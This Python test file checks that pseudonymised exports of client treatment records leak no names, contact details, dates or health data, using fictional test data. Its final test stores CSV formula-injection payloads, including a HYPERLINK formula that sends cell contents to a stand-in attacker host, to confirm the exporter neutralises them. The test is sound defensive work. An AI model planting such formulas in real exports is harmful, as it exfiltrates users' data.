"""Pseudonymised exports leak nothing identifying, in any format; identified ones keep it all.

A record is seeded with the identifying text a privacy reviewer would try (names in every case,
hyphenated and two-letter names, phones in several formats, e-mails, dates of birth in several
formats, street addresses, GP names, pregnancy, HIV, cancer and medication mentions) in every
free-text field there is, then exported as JSON, CSV and PDF (text extracted as a reader
would) and searched.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date

import pypdfium2 as pdfium
import pytest
from sqlalchemy import text

from protocols import Zone
from sessions.clients import ConsentForm, Health, NewClient, add_client
from sessions.export import (
    FORMULA_START,
    PSEUDONYMISED_CSV,
    PSEUDONYMISED_JSON,
    default_name,
    render,
)
from sessions.gate import Contraindication
from sessions.history import client_record
from sessions.pseudonymised import EVENT_PAYLOAD, INCLUDE
from sessions.pseudonyms import Pseudonyms
from sessions.recorder import Machine
from sessions.store import open_store
from tests.sessions.factory import CLEAR, FakeClock, client, session

NAME = "Jane Doe-Smith"
PHONE, EMAIL, DOB = "+44 20 7946 0123", "jane.doe-smith@example.org", date(1980, 5, 17)
OTHER = "Li Wu"  # a relative named in her notes: two-letter name parts
GP = "Dr Harold Finch, 12 Harley Street"
MACHINE = Machine("Rotary One", "R1-0042", "1.4.2")
# What must never be found in a pseudonymised export (whole words, any case).
IDENTIFIERS = [
    "jane", "doe", "smith", "doe-smith", "li", "wu", "tom", "reyes", "harold", "finch",
    "harley", "wallaby", "sydney", "example.org", "mail.example", "7946", "0123", "900456",
    "1980", "1990", "17/05/1980", "may", "pregnant", "pregnancy", "hiv", "cancer",
    "chemotherapy", "radiotherapy", "methotrexate", "warfarin", "latex", "r1-0042", "pg-2026-001",
    "pg-2026-002", "nl-77", "v3", "nickel",
]
NOTES = [
    f"{NAME.lower()} asked for a softer hairline; call 020 7946 0123 or {EMAIL}",
    "JANE DOE-SMITH, DOB 17/05/1980, lives at 42 Wallaby Way, Sydney",
    "Doe said Li and Wu (cousins) will come too; Li Wu's phone is 07700 900456",
    f"born 17 May 1980 (1980-05-17, May 17th, 1980); GP {GP}",
    "12 weeks pregnant; HIV positive; chemotherapy for breast cancer; on warfarin",
]


@pytest.fixture(scope="module")
def record_url(tmp_path_factory):
    url = f"sqlite:///{tmp_path_factory.mktemp('corpus') / 'record.sqlite3'}"
    store = open_store(url)
    cid = add_client(store, NewClient(
        name=NAME, phone=PHONE, email=EMAIL, date_of_birth=DOB,
        health=Health(hair_colour="dark brown", hair_loss_stage="Ludwig II",
                      hair_loss_cause="chemotherapy for breast cancer", fitzpatrick=2,
                      skin_quality="thin after radiotherapy", allergies="latex; HIV positive",
                      patch_test=f"by Jane's GP {GP}", medications="methotrexate, warfarin"),
        consent=ConsentForm(procedure=True, photos=True, version="v3 JANE",
                            signed_on=date(2026, 3, 1))))
    add_client(store, NewClient(name=OTHER, phone="07700 900456", email="li.wu@mail.example",
                                date_of_birth=date(1990, 2, 3)))
    clock = FakeClock()
    pregnancy = {**CLEAR, Contraindication.PREGNANCY: True,
                 Contraindication.BLOOD_THINNERS_OR_ALCOHOL: True}
    rec = session(store, cid, clock, machine=MACHINE, lot="PG-2026-001", end=False,
                  answers=pregnancy, overrides={
                      "pregnancy": f"12 weeks pregnant, Jane's GP {GP} agreed",
                      "blood-thinners-or-alcohol": "on warfarin, jane says it is fine"})
    for note in NOTES:
        rec.note(note)
    rec.record_coverage(Zone.CROWN, coverage_pct=40, notes="\n".join(NOTES))
    first_note = client_record(store, cid, events=True).sessions[0].events[-1].id
    rec.correct(first_note, "wrong client: this was Li Wu, born 3rd of Feb 1990, "
                "(020) 7946-0456")
    rec.end(aftercare_given=True)
    clock.advance(days=5)  # under 7 days: the interval needs a reason
    session(store, cid, clock, machine=MACHINE, lot="PG-2026-002", overrides={
        "interval": "Jane flies to Sydney; reach her on +44 20 7946 0123"})
    store.close()
    return url, cid


def exports(url: str, cid: int, **kw) -> dict[str, str]:
    store = open_store(url)
    try:
        record = client_record(store, cid, events=True)
        out = {fmt: render(store, record, fmt, **kw) for fmt in ("json", "csv", "pdf")}
    finally:
        store.close()
    doc = pdfium.PdfDocument(out["pdf"])
    try:
        pdf = "".join(p.get_textpage().get_text_range() for p in doc)
    finally:
        doc.close()
    return {"json": out["json"].decode(), "csv": out["csv"].decode(), "pdf": pdf}


def found(text_: str, word: str) -> bool:
    return re.search(rf"(?<![\w]){re.escape(word)}(?![\w])", text_, re.IGNORECASE) is not None


def test_the_corpus_is_really_in_the_record(record_url):
    """Identified exports still carry everything (and prove the corpus is there to find)."""
    url, cid = record_url
    out = exports(url, cid)
    for word in ("jane", "doe-smith", "li", "wu", "harold", "wallaby", "pregnant", "hiv",
                 "warfarin", "r1-0042", "pg-2026-001", "v3"):
        assert found(out["json"], word), word
    for word in ("7946", "example.org", "1980-05-17", "latex", "methotrexate"):
        assert found(out["json"], word), word
    assert NOTES[4] in out["csv"] and "Jane Doe-Smith" in out["csv"]
    assert "Client: Jane Doe-Smith" in out["pdf"] and "PG-2026-001" in out["pdf"]


def test_pseudonymised_exports_hold_no_identifier_in_any_format(record_url):
    url, cid = record_url
    out = exports(url, cid, pseudonymise_ids=True)
    for fmt, content in out.items():
        leaks = [w for w in IDENTIFIERS if found(content, w)]
        assert leaks == [], f"{fmt}: {leaks}"
        assert not re.search(r"\d{4}-\d{2}-\d{2}", content), fmt  # no date, no timestamp
    doc = json.loads(out["json"])
    assert doc["format"] == "smp.client-record.pseudonymised" and doc["included"] == []
    assert doc["client"]["pseudonym"].startswith("Client-") and doc["health"] is None
    assert [s["day"] for s in doc["sessions"]] == [0, 5]
    assert "day 0" in out["pdf"] and "day 5" in out["pdf"]
    assert "Client-" in out["csv"] and "Client-" in out["pdf"]


def _keys(node, kind: str, seen: list) -> None:
    """Every (object kind, key) of the pseudonymised JSON, checked against the declaration."""
    nested = {"client": "client", "health": "health", "consents": "consent",
              "sessions": "session", "machine": "machine", "gate": "gate", "zones": "zone",
              "pigments": "pigment", "needles": "needle", "telemetry": "telemetry",
              "events": "event", "used": "used", "runs": "run"}
    for key, value in node.items():
        seen.append((kind, key))
        child = nested.get(key)
        if child and isinstance(value, dict):
            _keys(value, child, seen)
        elif child and isinstance(value, list):
            for item in value:
                _keys(item, child, seen)


def test_the_json_carries_only_declared_fields(record_url):
    url, cid = record_url
    for include in ((), tuple(INCLUDE)):
        doc = json.loads(exports(url, cid, pseudonymise_ids=True, include=include)["json"])
        seen: list = []
        _keys(doc, "document", seen)
        assert all(key in PSEUDONYMISED_JSON[kind] for kind, key in seen), seen
        for sv in doc["sessions"]:
            for e in sv["events"]:
                allowed = {k if isinstance(k, str) else k[0] for k in EVENT_PAYLOAD.get(
                    e["kind"], ())}
                assert set(e["payload"]) <= allowed, e


def test_included_free_text_is_there_with_the_clients_identifiers_taken_out(record_url):
    url, cid = record_url
    out = exports(url, cid, pseudonymise_ids=True, include=("notes", "reasons", "corrections"))
    doc = json.loads(out["json"])
    assert doc["included"] == ["corrections", "notes", "reasons"]
    alias = doc["client"]["pseudonym"]
    notes = [e["payload"]["text"] for e in doc["sessions"][0]["events"] if e["kind"] == "note"]
    assert notes[:2] == [
        f"{alias} asked for a softer hairline; call [phone] or [e-mail]",
        f"{alias}, DOB [date], lives at 42 Wallaby Way, Sydney"]  # an address has no pattern
    assert "12 weeks pregnant; HIV positive" in notes[4]  # asked for by name: included
    for fmt, content in out.items():
        for word in ("jane", "doe", "smith", "tom", "reyes", "7946", "example.org", "1980",
                     "r1-0042", "pg-2026-001"):
            assert not found(content, word), (fmt, word)
    reasons = [g["reason"] for g in doc["sessions"][0]["gate"] if g["reason"]]
    assert reasons == [f"on warfarin, {alias} says it is fine",
                       f"12 weeks pregnant, {alias}'s GP Dr Harold Finch, 12 Harley Street "
                       "agreed"]  # a GP's name has no pattern: withheld unless asked for
    (interval,) = [g for g in doc["sessions"][1]["gate"] if g["item"] == "interval"]
    assert interval["reason"] == f"{alias} flies to Sydney; reach her on [phone]"
    assert "notes" in PSEUDONYMISED_CSV and out["csv"].splitlines()[0].endswith(",notes")


def test_without_include_the_free_text_is_withheld_and_said_to_be(record_url):
    url, cid = record_url
    out = exports(url, cid, pseudonymise_ids=True)
    doc = json.loads(out["json"])
    assert doc["withheld"] == list(INCLUDE)
    (s1, s2) = doc["sessions"]
    assert s1["gate"] == [] and [g["item"] for g in s2["gate"]] == ["interval"]
    assert s2["gate"][0]["reason"] == "[withheld]"
    assert {z["notes"] for z in s1["zones"]} >= {"[withheld]"}
    assert all(e["payload"] == {"text": "[withheld]"} for e in s1["events"]
               if e["kind"] in ("note", "correction"))
    assert not out["csv"].splitlines()[0].endswith(",notes")
    assert "no free text and no health data" in out["pdf"]


def test_health_only_when_included_by_name(record_url):
    url, cid = record_url
    doc = json.loads(exports(url, cid, pseudonymise_ids=True,
                             include=("health", "allergies"))["json"])["health"]
    assert doc["hair_loss_stage"] == "Ludwig II" and doc["fitzpatrick"] == 2
    assert doc["allergies"] == "latex; HIV positive" and doc["medications"] == "[withheld]"


def test_default_file_names_never_hold_the_clients_name(record_url):
    url, cid = record_url
    store = open_store(url)
    try:
        record = client_record(store, cid)
        alias = Pseudonyms(store).client(cid)
    finally:
        store.close()
    assert default_name(record, "pdf", today=date(2026, 3, 30)) == f"client-{cid}-20260330.pdf"
    assert default_name(record, "csv", pseudonym=alias) == f"{alias}.csv"


# -- CSV formula injection ---------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+SUM(1,2)", "-2+3",
            "@SUM(1)", "\tTAB", "\rCR"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(sqlite_url):
    store = open_store(sqlite_url)
    cid = client(store, "Ann Lee")
    session(store, cid, FakeClock(), lot="PG-1", technician="Tom")
    # Another version (or raw SQL) stored formulas in every text column the CSV carries.
    with store.engine.begin() as c:
        c.execute(text("UPDATE clients SET name = :v"), {"v": FORMULAS[0]})
        c.execute(text("UPDATE sessions SET technician = :v"), {"v": FORMULAS[3]})
        c.execute(text("UPDATE zone_works SET notes = :v, profile = :p"),
                  {"v": FORMULAS[1], "p": FORMULAS[4]})
        c.execute(text("UPDATE pigment_uses SET brand = :v"), {"v": FORMULAS[2]})
        c.execute(text("UPDATE needle_uses SET code = :v"), {"v": FORMULAS[5]})
    record = client_record(store, cid, events=True)
    files = {"identified": render(store, record, "csv"),
             "pseudonymised": render(store, record, "csv", pseudonymise_ids=True,
                                     include=("notes",))}
    store.close()
    for label, data in files.items():
        cells = [c for row in csv.reader(io.StringIO(data.decode())) for c in row]
        assert cells and all(not c.startswith(FORMULA_START) for c in cells), label
    cells = {c for row in csv.reader(io.StringIO(files["identified"].decode())) for c in row}
    assert "'" + FORMULAS[0] in cells and "'+SUM(1,2)" in cells and "'@SUM(1)" in cells
    assert "\\tTAB" in cells  # a control character is escaped, so it starts a cell no more
